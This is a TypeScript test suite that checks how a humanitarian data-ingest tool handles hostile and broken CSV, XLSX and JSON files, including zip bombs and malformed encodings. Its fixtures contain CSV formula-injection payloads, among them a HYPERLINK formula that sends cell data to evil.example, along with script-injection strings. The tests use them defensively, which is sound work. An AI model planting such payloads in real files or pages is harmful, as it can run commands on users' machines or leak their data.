// Every hostile or broken file the ingest may meet, one line each: the exact outcome (failed with one clear
// line naming the file, or loaded with exact counts and the reason of every rejected row), and a warehouse
// left exactly as it was whenever a file fails. Small files are committed in test/fixtures/bad/ (rewritten by
// `npx tsx test/helpers/bad-files.ts test/fixtures/bad`); big ones are generated into a temp folder.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawnSync } from "node:child_process";
import { readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { ingestFiles } from "../loaders/ingest.ts";
import { openWarehouse, type Warehouse } from "../warehouse/db.ts";
import { csvText, FIVE_W_HEADER, goodRow, writeDeepJson, writeHugeCellCsv, writeHugeCellJson, writeLongCellXlsx, writeWideCsv, writeXlsxBomb } from "./helpers/bad-files.ts";
import { rows, seedAreas, tempDir, testConfig } from "./helpers/warehouse.ts";

const ROOT = fileURLToPath(new URL("..", import.meta.url));
const FIXTURES = join(ROOT, "test/fixtures/bad");
const tmp = tempDir("protection-bad-");
const config = testConfig();

/** Either the file fails with this message, or it loads with these counts and these rejected rows. */
type Outcome =
  | { fails: RegExp }
  | {
      read: number;
      accepted: number;
      /** row number → every reason given for rejecting (or skipping) it, sorted */
      rejected: Record<number, string[]>;
      /** a query over the file's rows (:hash is its file_hash) and its exact result */
      stored?: [string, unknown[]];
    };

interface Case {
  file: string;
  what: string;
  outcome: Outcome;
  /** generated at test time into the temp folder (too big to commit) */
  big?: boolean;
}

const accepted5w = (sql = "org_lead, reached") => `SELECT ${sql} FROM activities WHERE file_hash = :hash ORDER BY row_number`;

const CASES: Case[] = [
  // empty, blank and non-text files
  { file: "empty.csv", what: "0 bytes", outcome: { fails: /: empty file \(0 bytes\)$/ } },
  { file: "empty.xlsx", what: "0 bytes named .xlsx", outcome: { fails: /: empty file \(0 bytes\)$/ } },
  { file: "empty.json", what: "0 bytes named .json", outcome: { fails: /: empty file \(0 bytes\)$/ } },
  { file: "bom-only.csv", what: "a UTF-8 byte-order mark and nothing else", outcome: { fails: /: no data: the file holds only blank lines, spaces or delimiters$/ } },
  { file: "blank-lines.csv", what: "blank lines, spaces and a tab", outcome: { fails: /: no data: the file holds only blank lines, spaces or delimiters$/ } },
  { file: "delimiter-only.csv", what: "a single line of commas", outcome: { fails: /: no data: the file holds only blank lines, spaces or delimiters$/ } },
  { file: "quoted-blanks.csv", what: "only empty quoted cells", outcome: { fails: /: no data: the file holds only blank lines, spaces or delimiters$/ } },
  { file: "binary-junk.csv", what: "binary junk named .csv", outcome: { fails: /: not a text file \(binary content\); expected CSV text$/ } },
  { file: "workbook-named.csv", what: "an XLSX workbook named .csv", outcome: { fails: /: not a text file: this is a zip archive \(an \.xlsx workbook saved under another name\?\); give it its real extension, e\.g\. \.xlsx$/ } },
  // XLSX containers
  { file: "truncated-half.xlsx", what: "the first half of a workbook", outcome: { fails: /: corrupt or truncated XLSX \(no zip directory at the end of the file: it was cut short\)$/ } },
  { file: "truncated-no-directory.xlsx", what: "a workbook missing its last 30 bytes", outcome: { fails: /: corrupt or truncated XLSX \(no zip directory at the end of the file: it was cut short\)$/ } },
  { file: "corrupt-sheet-data.xlsx", what: "damaged compressed sheet data (exceljs alone never returns)", outcome: { fails: /: corrupt XLSX: entry xl\/worksheets\/sheet1\.xml cannot be decompressed \(.+\)$/ } },
  { file: "malformed-sheet-xml.xlsx", what: "a sheet whose XML stops half-way (exceljs alone loads half the rows)", outcome: { fails: /: corrupt XLSX: entry xl\/worksheets\/sheet1\.xml is cut short: its XML does not end with <\/worksheet>$/ } },
  { file: "text-named.xlsx", what: "CSV text named .xlsx", outcome: { fails: /: not an XLSX file \(no zip signature\)$/ } },
  { file: "zip-not-workbook.xlsx", what: "a zip of a text file named .xlsx", outcome: { fails: /: a zip archive but not an Excel workbook \(no xl\/workbook\.xml inside\)$/ } },
  { file: "ods-renamed.xlsx", what: "an OpenDocument spreadsheet named .xlsx", outcome: { fails: /: an OpenDocument spreadsheet \(\.ods\), not an \.xlsx workbook; save it as \.xlsx$/ } },
  { file: "word-document.xlsx", what: "a Word document named .xlsx", outcome: { fails: /: a Word document, not an Excel workbook$/ } },
  { file: "zero-sheets.xlsx", what: "a workbook with 0 sheets", outcome: { fails: /: the workbook has no worksheets \(only charts, or none at all\)$/ } },
  { file: "hidden-only-sheet.xlsx", what: "a workbook whose only sheet is hidden", outcome: { fails: /: every sheet is hidden \('5W'\); unhide the sheet with the data in Excel \(right-click a sheet tab › Unhide\) and save again$/ } },
  { file: "encrypted.xlsx", what: "a password-protected workbook (OLE container with EncryptedPackage)", outcome: { fails: /: password-protected \(encrypted\) workbook; remove the password in Excel \(File › Info › Protect Workbook\) and save it as \.xlsx$/ } },
  { file: "legacy-renamed.xlsx", what: "an Excel 97-2003 workbook named .xlsx", outcome: { fails: /: legacy Excel 97-2003 workbook \(\.xls\) under an \.xlsx name; open it in Excel and save it as \.xlsx$/ } },
  { file: "legacy.xls", what: "a legacy .xls workbook", outcome: { fails: /: legacy \.xls workbook; save it as \.xlsx$/ } },
  { file: "bomb.xlsx", what: "a zip bomb: 150 MB of sheet in 157 KB", big: true, outcome: { fails: /: refused: XLSX expands to 150 MB from \d+ KB \(zip bomb\?\)$/ } },
  { file: "lying-bomb.xlsx", what: "a zip bomb whose directory claims the sheet is 4 KB", big: true, outcome: { fails: /: refused: XLSX expands to more than 100 MB from \d+ KB \(zip bomb\?\)$/ } },
  { file: "beyond-last-column.xlsx", what: "a cell in column AZZZ, past Excel's last column XFD", outcome: { fails: /: a cell in column AZZZ, beyond Excel's last column XFD; this workbook was not written by Excel and cannot be read$/ } },
  { file: "long-cell.xlsx", what: "a workbook cell of 2 M characters", big: true, outcome: { fails: /: sheet '5W' row 2, column 7: a cell of 2\.0 M characters; cells over 1 M characters are not table data \(an Excel cell holds at most 32,767\)$/ } },
  {
    file: "header-only.xlsx",
    what: "a 5W header and no rows",
    outcome: { read: 0, accepted: 0, rejected: {} }
  },
  {
    file: "formula-errors.xlsx",
    what: "#DIV/0!, #REF! and #N/A results, a formula without a cached value",
    outcome: {
      read: 5,
      accepted: 3,
      rejected: { 3: ["no location: neither admin p-codes nor admin names given"], 4: ["missing AoR / sector"] },
      // Excel errors count as blank: #DIV/0! people reached loads as no figure; an uncached formula too
      stored: [accepted5w("row_number, reached"), [{ row_number: 2, reached: null }, { row_number: 5, reached: null }, { row_number: 6, reached: 6 }]]
    }
  },
  // unknown types
  { file: "report.ods", what: "an unknown extension", outcome: { fails: /: unknown file type; expected \.csv, \.xlsx or \.json$/ } },
  { file: "no-extension", what: "CSV text without an extension", outcome: { fails: /: unknown file type; expected \.csv, \.xlsx or \.json$/ } },
  // encodings
  ...(
    [
      ["utf16le-bom.csv", "UTF-16 little-endian with a BOM"],
      ["utf16be-bom.csv", "UTF-16 big-endian with a BOM"],
      ["utf16le-no-bom.csv", "UTF-16 little-endian without a BOM"],
      ["utf16be-no-bom.csv", "UTF-16 big-endian without a BOM"]
    ] as const
  ).map(([file, what]): Case => ({
    file,
    what,
    outcome: {
      read: 2,
      accepted: 2,
      rejected: {},
      stored: [
        accepted5w("org_lead, aor, population_group, reached"),
        [
          { org_lead: "ONG Séno Espoir", aor: "GBV", population_group: "idp", reached: 12 },
          { org_lead: "ONG Séno Espoir", aor: "CP", population_group: "refugee", reached: 7 }
        ]
      ]
    }
  })),
  {
    file: "windows-1252.csv",
    what: "Windows-1252 with curly quotes, a dash and a euro sign, CRLF",
    outcome: { read: 2, accepted: 2, rejected: {}, stored: [accepted5w(), [{ org_lead: "ONG Séno Espoir – “Avenir”", reached: 12 }, { org_lead: "Coopération €", reached: 3 }]] }
  },
  {
    file: "invalid-utf8.csv",
    what: "UTF-8 with a stray 0xFF and a cut sequence",
    outcome: {
      read: 3,
      accepted: 3,
      rejected: {},
      // the broken bytes become U+FFFD; the rest stays UTF-8 (not Windows-1252 mojibake like "SÃ©no"); "ONG Séno
      // Espoir \uFFFD" is then the organisation already loaded as "ONG Séno Espoir" (same name but for a symbol)
      stored: [accepted5w(), [{ org_lead: "ONG Séno Espoir", reached: 12 }, { org_lead: "Coopération Ségou", reached: 5 }, { org_lead: "Kéra – Nord \uFFFD", reached: 6 }]]
    }
  },
  {
    file: "shift-jis.csv",
    what: "Shift-JIS Japanese text",
    outcome: { read: 6, accepted: 6, rejected: {}, stored: [`SELECT min(org_lead) AS first, max(org_lead) AS last FROM activities WHERE file_hash = :hash`, [{ first: "日本の保護団体 第1支部", last: "日本の保護団体 第6支部" }]] }
  },
  // CSV shapes
  { file: "header-only.csv", what: "a 5W header and no rows", outcome: { read: 0, accepted: 0, rejected: {} } },
  {
    file: "every-column-empty.csv",
    what: "a header over rows of empty cells, spaces, a tab and non-breaking spaces",
    outcome: { read: 0, accepted: 0, rejected: {} }
  },
  {
    file: "ragged.csv",
    what: "rows shorter and longer than the header",
    outcome: {
      read: 4,
      accepted: 2,
      rejected: { 3: ["no location: neither admin p-codes nor admin names given"], 5: ["missing AoR / sector", "missing Organization", "no location: neither admin p-codes nor admin names given"] },
      stored: [accepted5w("row_number, reached"), [{ row_number: 2, reached: 12 }, { row_number: 4, reached: 5 }]]
    }
  },
  { file: "unterminated-quote.csv", what: "a quote opened on line 2 and never closed", outcome: { fails: /: unterminated quote: the quoted cell that opens on line 2 is never closed, so it would swallow the rest of the file; fix the stray " on that line$/ } },
  {
    file: "nul-byte-in-cell.csv",
    what: "a NUL byte inside a cell",
    outcome: { read: 2, accepted: 2, rejected: {}, stored: [accepted5w(), [{ org_lead: "ONGEspoir", reached: 12 }, { org_lead: "ONG Espoir", reached: 5 }]] }
  },
  { file: "old-mac-line-ends.csv", what: "lines ended by CR alone", outcome: { read: 3, accepted: 3, rejected: {} } },
  {
    file: "duplicate-headers.csv",
    what: "Organization and People reached twice",
    outcome: { read: 1, accepted: 1, rejected: {}, stored: [accepted5w("org_lead, reached, extra"), [{ org_lead: "ONG A", reached: 12, extra: '{"Organization":"ONG B","People reached":"99"}' }]] }
  },
  {
    file: "html-script-header.csv",
    what: "<script> and <img onerror> in headers and cells",
    outcome: {
      read: 1,
      accepted: 1,
      rejected: {},
      // kept verbatim as text: escaping is the job of whatever renders it
      stored: [accepted5w("org_lead, extra"), [{ org_lead: "<b>ONG</b> Espoir", extra: `{"<script>alert('x')</script>":"<script>alert(1)</script>","<img src=x onerror=alert(1)>":"ok"}` }]]
    }
  },
  {
    file: "formula-injection.csv",
    what: "=cmd|' /C calc'!A0 and other formula-injection cells",
    outcome: {
      read: 5,
      accepted: 4,
      rejected: { 5: ["People reached: cannot read '=1+1'; expected a whole number"] },
      // stored verbatim: neutralising formulas is the job of CSV/Excel exports
      stored: [
        accepted5w(),
        [
          { org_lead: "=cmd|' /C calc'!A0", reached: 12 },
          { org_lead: '@HYPERLINK("http://evil.example/?"&A1,"click")', reached: 3 },
          { org_lead: "-2+3+cmd|' /C calc'!A0", reached: 4 },
          { org_lead: "+1+1+cmd|' /C notepad'!A0", reached: 5 }
        ]
      ]
    }
  },
  {
    file: "org-named-total.csv",
    what: "organisations named 'Total Relief Foundation' and 'Sum of Us', then a real TOTAL row",
    outcome: {
      read: 3,
      accepted: 2,
      rejected: { 4: ["totals row; not loaded"] },
      stored: [accepted5w(), [{ org_lead: "Total Relief Foundation", reached: 12 }, { org_lead: "Sum of Us", reached: 8 }]]
    }
  },
  {
    file: "dates-as-text.csv",
    what: "reporting months typed in 8 formats, and one unreadable",
    outcome: {
      read: 9,
      accepted: 8,
      rejected: { 10: ["Reporting month: cannot read 'sometime in June'; expected a month (e.g. 2025-06, June 2025, juin 2025)"] },
      stored: [`SELECT count(*)::INT AS n, count(DISTINCT reporting_month)::INT AS months, strftime(min(reporting_month), '%Y-%m') AS month FROM activities WHERE file_hash = :hash`, [{ n: 8, months: 1, month: "2025-06" }]]
    }
  },
  {
    file: "mixed-types.csv",
    what: "numbers, words, decimals, booleans, dates and #N/A in People reached",
    outcome: {
      read: 9,
      accepted: 4,
      rejected: {
        3: ["People reached: cannot read 'ten'; expected a whole number"],
        4: ["People reached: 3.5 is not a whole number"],
        6: ["People reached: cannot read 'TRUE'; expected a whole number"],
        8: ["People reached: -5 is negative count"],
        10: ["People reached: cannot read '2025-06-01'; expected a whole number"]
      },
      stored: [accepted5w("row_number, reached"), [{ row_number: 2, reached: 10 }, { row_number: 5, reached: 1250 }, { row_number: 7, reached: null }, { row_number: 9, reached: 1000 }]]
    }
  },
  {
    file: "huge-numbers.csv",
    what: "1e20, Infinity, NaN and 23 nines in People reached",
    outcome: {
      read: 5,
      accepted: 2,
      rejected: {
        3: ["People reached: cannot read '1e20'; expected a whole number"],
        4: ["People reached: cannot read 'Infinity'; expected a whole number"],
        6: ["People reached: cannot read '99999999999999999999999'; expected a whole number"]
      },
      stored: [accepted5w("row_number, reached"), [{ row_number: 2, reached: 12 }, { row_number: 5, reached: null }]]
    }
  },
  { file: "wide.csv", what: "100,000 columns", big: true, outcome: { fails: /: 100,000 columns on line 1; more than 16,384 \(Excel's limit\) is not a table this tool can read$/ } },
  { file: "huge-cell.csv", what: "a single cell of 50 MB", big: true, outcome: { fails: /: line 2, column 7: a cell of 50\.0 MB; cells over 1\.0 MB are not table data \(an Excel cell holds at most 32,767 characters\)$/ } },
  // JSON
  { file: "invalid.json", what: "broken JSON", outcome: { fails: /: invalid JSON: Expected double-quoted property name in JSON at position 65/ } },
  { file: "html-page.json", what: "an HTML error page saved as .json", outcome: { fails: /: an HTML or XML page, not JSON \(an error page saved instead of the download\?\)$/ } },
  { file: "unknown-structure.json", what: "JSON of an unknown structure", outcome: { fails: /: JSON structure not recognised \(expected GeoJSON, TopoJSON, an FTS\/HPC API response or an array of records\)$/ } },
  { file: "empty-array.json", what: "an empty JSON array", outcome: { fails: /: no data: the JSON is an empty array$/ } },
  { file: "null.json", what: "JSON null", outcome: { fails: /: the JSON holds a single null value, not records; expected GeoJSON, TopoJSON, an FTS\/HPC API response or an array of records$/ } },
  { file: "deep.json", what: "arrays nested 100,000 levels deep", big: true, outcome: { fails: /: JSON nested 100,000 levels deep; more than 64 is not a data file this tool reads$/ } },
  { file: "deep-record.json", what: "a record holding 100,000 levels of nesting", big: true, outcome: { fails: /: JSON nested 100,002 levels deep; more than 64 is not a data file this tool reads$/ } },
  { file: "huge-cell.json", what: "a record holding a 50 MB string", big: true, outcome: { fails: /: record 1, 'Activity': a value of 50\.0 M characters; values over 1 M characters are not table data$/ } },
  {
    file: "invalid-geometries.geojson",
    what: "an unclosed ring, latitude 200, a Point, no geometry and one valid polygon",
    outcome: {
      read: 5,
      accepted: 1,
      rejected: {
        2: ["invalid geometry: ring not closed"],
        3: ["invalid geometry: coordinates out of range (11, 200): not longitude/latitude"],
        4: ["invalid geometry: geometry type Point; expected Polygon or MultiPolygon"],
        5: ["invalid geometry: missing geometry"]
      },
      stored: [`SELECT pcode, level FROM admin_areas WHERE file_hash = :hash`, [{ pcode: "XE05", level: 1 }]]
    }
  }
];

const pathOf = (c: Case) => join(c.big ? tmp.dir : FIXTURES, c.file);

const COUNTS = `SELECT (SELECT count(*) FROM activities)::INT AS activities, (SELECT count(*) FROM admin_areas)::INT AS admin_areas,
  (SELECT count(*) FROM ingest_issues)::INT AS ingest_issues, (SELECT count(*) FROM ingest_files)::INT AS ingest_files`;

async function counts(wh: Warehouse): Promise<Record<string, number>> {
  return (await rows(wh.conn, COUNTS))[0] as Record<string, number>;
}

let w: Warehouse;

beforeAll(async () => {
  const big = (name: string) => join(tmp.dir, name);
  await writeXlsxBomb(big("bomb.xlsx"), 150);
  await writeXlsxBomb(big("lying-bomb.xlsx"), 150, true);
  await writeLongCellXlsx(big("long-cell.xlsx"));
  writeWideCsv(big("wide.csv"), 100_000);
  writeHugeCellCsv(big("huge-cell.csv"), 50);
  writeHugeCellJson(big("huge-cell.json"), 50);
  writeDeepJson(big("deep.json"), 100_000);
  writeDeepJson(big("deep-record.json"), 100_000, true);
  writeFileSync(big("partner_5w_2025-06.csv"), csvText([FIVE_W_HEADER, ...Array.from({ length: 10 }, (_, i) => goodRow(i))]));
  // one warehouse for the whole table, already holding a good file: each case is judged by what it changes
  w = await openWarehouse(":memory:");
  await seedAreas(w);
  const seed = await ingestFiles(w.conn, [big("partner_5w_2025-06.csv")], { config });
  expect(seed.files[0]).toMatchObject({ status: "loaded", rowsAccepted: 10 });
}, 120_000);

afterAll(() => {
  w?.close();
  tmp.cleanup();
});

describe("the bad-input corpus", () => {
  it("holds at least 40 committed fixtures, every one used by a case below", () => {
    const committed = CASES.filter((c) => !c.big);
    expect(committed.length).toBeGreaterThanOrEqual(40);
    expect(readdirSync(FIXTURES).sort()).toEqual(committed.map((c) => c.file).sort());
    expect(CASES.length).toBeGreaterThanOrEqual(50);
  });
});

describe("ingesting hostile and broken files", () => {
  for (const c of CASES) {
    const o = c.outcome;
    const name =
      "fails" in o
        ? `fails ${c.file} (${c.what}) with one line naming the file, and leaves the warehouse as it was`
        : `loads ${c.file} (${c.what}): ${o.read} rows read, ${o.accepted} accepted, ${Object.keys(o.rejected).length} rejected with their reasons`;
    it(name, async () => {
      const path = pathOf(c);
      const before = await counts(w);
      const started = Date.now();
      const { files } = await ingestFiles(w.conn, [path], { config });
      const r = files[0]!;
      // no hostile file may take long: each fails or loads within seconds
      expect(Date.now() - started).toBeLessThan(20_000);
      const after = await counts(w);
      if ("fails" in o) {
        expect(r.error ?? `(loaded: ${r.rowsRead} rows)`).toMatch(o.fails);
        expect(r.status).toBe("failed");
        expect(r.error!.startsWith(`${path}: `)).toBe(true);
        expect(r.error).not.toContain("\n");
        expect(after).toEqual(before);
        return;
      }
      expect(r.error).toBeUndefined();
      expect(r.status).toBe("loaded");
      // rows not stored: rejected (an error) or skipped (a totals row, another sector)
      expect([r.rowsRead, r.rowsAccepted, r.rowsRejected + r.rowsSkipped]).toEqual([o.read, o.accepted, Object.keys(o.rejected).length]);
      expect(r.rowsAccepted + r.rowsRejected + r.rowsSkipped).toBe(r.rowsRead);
      const hash = (await rows(w.conn, `SELECT file_hash FROM ingest_files WHERE file_name = $n`, { n: c.file }))[0]!.file_hash as string;
      const rejected = await rows(
        w.conn,
        `SELECT row_number, list_sort(list(DISTINCT reason)) AS reasons FROM ingest_issues
         WHERE file_hash = $h AND severity IN ('error', 'skipped') AND row_number IS NOT NULL GROUP BY row_number ORDER BY row_number`,
        { h: hash }
      );
      expect(Object.fromEntries(rejected.map((x) => [x.row_number, x.reasons]))).toEqual(o.rejected);
      const issues = (await rows(w.conn, `SELECT count(*)::INT AS n FROM ingest_issues WHERE file_hash = $h`, { h: hash }))[0]!.n;
      const table = /json$/.test(c.file) ? "admin_areas" : "activities";
      expect(after).toEqual({ ...before, [table]: before[table]! + o.accepted, ingest_issues: before.ingest_issues! + Number(issues), ingest_files: before.ingest_files! + 1 });
      if (o.stored) {
        const [sql, expected] = o.stored;
        const got = await rows(w.conn, sql.replace(/:hash/g, "$h"), { h: hash });
        expect(got.map((g) => ({ ...g, ...("extra" in g && g.extra !== null ? { extra: String(g.extra) } : {}) }))).toEqual(expected);
      }
    });
  }
});

describe("the command line on bad input", () => {
  const cli = (...args: string[]) => {
    const r = spawnSync(process.execPath, [join(ROOT, "bin/protection.js"), ...args], { cwd: ROOT, encoding: "utf8", timeout: 60_000 });
    return { code: r.status, stdout: r.stdout, stderr: r.stderr };
  };
  const db = join(tmp.dir, "cli", "warehouse.duckdb");
  const fixture = (name: string) => join(FIXTURES, name);
  const dbCounts = async () => {
    const wh = await openWarehouse(db, { readOnly: true });
    try {
      return await counts(wh);
    } finally {
      wh.close();
    }
  };

  beforeAll(async () => {
    const wh = await openWarehouse(db);
    await seedAreas(wh);
    wh.close();
  });

  it("exits 0 for a file whose bad rows are rejected, reporting them", () => {
    const r = cli("ingest", fixture("mixed-types.csv"), "--db", db, "--json");
    expect(r.code).toBe(0);
    const report = JSON.parse(r.stdout);
    expect(report.files[0]).toMatchObject({ status: "loaded", rowsRead: 9, rowsAccepted: 4, rowsRejected: 5 });
  });

  it("exits 1 when one file of a run fails, loads the others, and names the failed file on its line", async () => {
    const r = cli("ingest", fixture("dates-as-text.csv"), fixture("corrupt-sheet-data.xlsx"), fixture("encrypted.xlsx"), "--db", db);
    expect(r.code).toBe(1);
    const lines = r.stdout.trim().split("\n");
    expect(lines.filter((l) => l.startsWith("✗ "))).toEqual([
      expect.stringMatching(/^✗ .*corrupt-sheet-data\.xlsx: corrupt XLSX: entry xl\/worksheets\/sheet1\.xml cannot be decompressed/),
      expect.stringMatching(/^✗ .*encrypted\.xlsx: password-protected \(encrypted\) workbook/)
    ]);
    expect(lines.at(-1)).toMatch(/^3 file\(s\), 2 failed; 9 rows read, 8 accepted, 1 rejected/);
    expect(await dbCounts()).toMatchObject({ activities: 4 + 8 });
  });

  it("exits 1 with the reason in the JSON report for a file that cannot be read, and changes nothing", async () => {
    const before = await dbCounts();
    const r = cli("ingest", fixture("unterminated-quote.csv"), "--db", db, "--json");
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout);
    expect(report.files).toEqual([expect.objectContaining({ status: "failed", error: expect.stringMatching(/unterminated-quote\.csv: unterminated quote: the quoted cell that opens on line 2/) })]);
    expect(await dbCounts()).toEqual(before);
  });

  it("exits 2 for an unknown --kind and for a missing file argument, touching nothing", async () => {
    const before = await dbCounts();
    const kind = cli("ingest", fixture("mixed-types.csv"), "--kind", "spreadsheet", "--db", db);
    expect(kind.code).toBe(2);
    expect(kind.stderr).toContain("error: option '--kind <kind>' argument 'spreadsheet' is invalid.");
    const none = cli("ingest", "--db", db);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain("error: missing required argument 'paths'");
    expect(await dbCounts()).toEqual(before);
  });
});
